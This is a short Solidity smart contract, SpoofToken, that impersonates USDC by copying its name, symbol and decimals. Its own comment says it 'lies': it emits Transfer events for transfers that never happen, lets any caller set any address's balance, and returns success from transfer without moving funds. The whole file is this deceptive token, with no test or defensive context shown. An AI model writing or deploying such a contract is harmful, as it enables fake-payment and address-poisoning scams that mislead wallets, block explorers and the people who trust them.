// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @notice Looks like USDC and lies: it logs transfers that never happened and moves nothing.
contract SpoofToken {
    string public constant name = "USD Coin";
    string public constant symbol = "USDC";
    uint8 public constant decimals = 6;

    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function claim(address account, uint256 balance) external {
        balanceOf[account] = balance;
    }

    function pretend(address from, address to, uint256 amount) external {
        emit Transfer(from, to, amount);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        emit Transfer(msg.sender, to, amount);
        return true;
    }
}
